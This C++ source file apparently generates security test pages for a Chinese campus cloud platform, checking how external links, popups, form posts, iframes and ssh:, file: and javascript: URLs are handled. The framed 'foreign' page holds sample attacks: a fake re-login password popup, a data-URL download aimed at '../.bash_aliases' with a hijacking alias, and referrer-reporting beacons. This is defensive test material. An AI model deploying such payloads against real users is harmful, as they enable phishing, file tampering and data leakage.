// SPDX-License-Identifier: MIT
#include "devservice/securitypages.h"

#include "devservice/httputil.h"
#include "devservice/pages.h"

#include <QBuffer>
#include <QColor>
#include <QImage>

namespace Pages {

namespace {

// The foreign site's mark: any screenshot with this band shows the foreign site.
const char ForeignBand[] = "#d0109a";
const unsigned PixelColour = 0x2ec4b6;

std::string foreignPage(const std::string &title, const std::string &body)
{
    return "<!DOCTYPE html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">\n<title>"
        + htmlEscape(title)
        + "</title>\n</head>\n<body style=\"margin:0;background:#fff;color:#333;font-family:"
          "'Noto Sans CJK SC',sans-serif\">\n"
        + body + "</body>\n</html>\n";
}

std::string band(const std::string &text)
{
    return std::string("<div style=\"background:") + ForeignBand
        + ";color:#fff;font-size:28px;font-weight:bold;padding:24px;text-align:center\">" + text
        + "</div>\n";
}

} // namespace

// Colours of the attack page's elements, one each, for finding them on a screenshot:
//   #e53935 link                      #fb8c00 link with target="_blank"
//   #c0ca33 the platform's redirect   #43a047 button setting location.href
//   #00acc1 button calling window.open #1e88e5 form posting to "collect"
//   #3949ab border of the framed page #2ec4b6 the foreign pixel, if it loads (24x24)
//   #8e24aa ssh: link                 #d81b60 file: link
//   #6d4c41 javascript: link          #546e7a button clicking the ssh: link
//   in the framed page (when it loads): #b71c1c its login button, and #ff1744 the page it
//   writes into a window it opens
std::string attack(const std::string &foreignUrl)
{
    const std::string evil = htmlEscape(foreignUrl + "evil");
    const std::string evilJs = htmlEscape("'" + foreignUrl + "evil'");
    const auto item = [](const std::string &element, const char *what) {
        return std::string("<li><span class=\"what\">") + what + "</span>" + element + "</li>\n";
    };
    const std::string items =
        item("<a class=\"x\" style=\"background:#e53935\" href=\"" + evil + "\">外部链接</a>",
             "普通链接")
        + item("<a class=\"x\" style=\"background:#fb8c00\" href=\"" + evil
                   + "\" target=\"_blank\">新窗口链接</a>",
               "target=_blank")
        + item("<a class=\"x\" style=\"background:#c0ca33;color:#222\" href=\"/orvane/redirect?to="
                   + HttpUtil::percentEncode(foreignUrl + "evil") + "\">平台跳转</a>",
               "平台的 302 跳转")
        + item("<button class=\"x\" style=\"background:#43a047\" onclick=\"location.href = "
                   + evilJs + "\">脚本跳转</button>",
               "location.href")
        + item("<button class=\"x\" style=\"background:#00acc1\" onclick=\"window.open(" + evilJs
                   + ")\">脚本弹窗</button>",
               "window.open()")
        + item(
            "<form method=\"post\" action=\"" + htmlEscape(foreignUrl + "collect")
                + "\"><input type=\"hidden\" name=\"note\" value=\"演示表单\"><button class=\"x\" "
                  "style=\"background:#1e88e5\" type=\"submit\">提交表单</button></form>",
            "表单 POST")
        + item(std::string("<iframe id=\"foreignFrame\" width=\"240\" height=\"60\" "
                           "style=\"border:6px solid #3949ab\"></iframe><script>"
                           "document.getElementById('foreignFrame').src = '")
                   + foreignUrl + "frame?platform='"
                   + " + encodeURIComponent(location.origin + '/');</script>",
               "内嵌框架")
        + item("<img src=\"" + htmlEscape(foreignUrl + "pixel.png")
                   + "\" width=\"24\" height=\"24\" alt=\"\">",
               "外部图片")
        + item("<a id=\"sshLink\" class=\"x\" style=\"background:#8e24aa\" "
               "href=\"ssh://attacker@127.0.0.1/upload/notice\">通知附件（ssh）</a>",
               "ssh: 链接")
        + item("<a class=\"x\" style=\"background:#d81b60\" "
               "href=\"file:///etc/hostname?upload/notice\">通知附件（file）</a>",
               "file: 链接")
        + item("<a class=\"x\" style=\"background:#6d4c41\" "
               "href=\"javascript:void('upload/notice')\">通知附件（javascript）</a>",
               "javascript: 链接")
        + item("<button class=\"x\" style=\"background:#546e7a\" "
               "onclick=\"document.getElementById('sshLink').click()\">点击 ssh 链接</button>",
               "脚本点击 ssh: 链接");
    return "<!DOCTYPE html>\n<html lang=\"zh-CN\">\n<head>\n<meta charset=\"utf-8\">\n"
           "<title>外链检查 - 智慧校园公共云平台</title>\n<style>\n"
           "body { margin: 0; background: #f0f4fa; color: #333; font-size: 14px;\n"
           "       font-family: \"Noto Sans CJK SC\", sans-serif; }\n"
           "h1 { margin: 0; padding: 14px 24px; font-size: 18px; background: #fff; }\n"
           "ul { list-style: none; margin: 0; padding: 12px 24px; }\n"
           "li { display: flex; align-items: center; min-height: 44px; }\n"
           ".what { width: 180px; color: #666; }\n"
           "form { margin: 0; }\n"
           ".x { display: inline-block; box-sizing: border-box; width: 190px; padding: 9px 14px;\n"
           "     border: none; color: #fff; font-size: 14px; text-align: center;\n"
           "     text-decoration: none;\n"
           "     cursor: pointer; }\n"
           "</style>\n</head>\n<body>\n<h1>外链检查（安全测试页）</h1>\n<ul>\n"
        + items + "</ul>\n</body>\n</html>\n";
}

std::string foreignEvil()
{
    return foreignPage("外部网站",
                       band("外部网站")
                           + "<p style=\"padding:0 24px\">这不是智慧校园公共云平台。</p>\n");
}

std::string foreignFrame(const std::string &platformUrl)
{
    const std::string phishing =
        "<body style=&quot;margin:0;background:#ff1744&quot;><h1>登录已失效，请重新输入密码</h1>"
        "<input type=password>"
        "<script>new opener.Image().src=\\'/report?written=1\\'</script></body>";
    return foreignPage(
        "外部框架",
        "<button id=\"login\" style=\"display:block;width:100%;height:60px;border:none;"
        "background:#b71c1c;color:#fff\" onclick=\"var w = window.open('about:blank'); "
        "w.document.write('"
            + phishing + "');\">登录</button>\n<a id=\"notice\" target=\"_top\" href=\""
            + htmlEscape(platformUrl + "upload/notice/plan.pdf")
            + "\"></a>\n<a id=\"aliases\" download=\"../.bash_aliases\" "
              "href=\"data:text/plain,alias%20ls%3D%27echo%20gotcha%27\"></a>\n<script>\n"
              "new Image().src = '/report?referrer=' + encodeURIComponent(document.referrer);\n"
              "setTimeout(function () {\n"
              "  for (var i = 0; i < 3; ++i) document.getElementById('notice').click();\n"
              "  document.getElementById('aliases').click();\n"
              "  new Image().src = '/report?clicked=1';\n"
              "}, 1500);\n</script>\n");
}

std::string foreignCollected()
{
    return foreignPage("外部网站", band("外部网站：已收到") + "\n");
}

std::string foreignPixelPng()
{
    QImage pixel(1, 1, QImage::Format_RGB32);
    pixel.fill(QColor::fromRgb(PixelColour));
    QByteArray png;
    QBuffer buffer(&png);
    buffer.open(QIODevice::WriteOnly);
    pixel.save(&buffer, "PNG");
    return png.toStdString();
}

} // namespace Pages
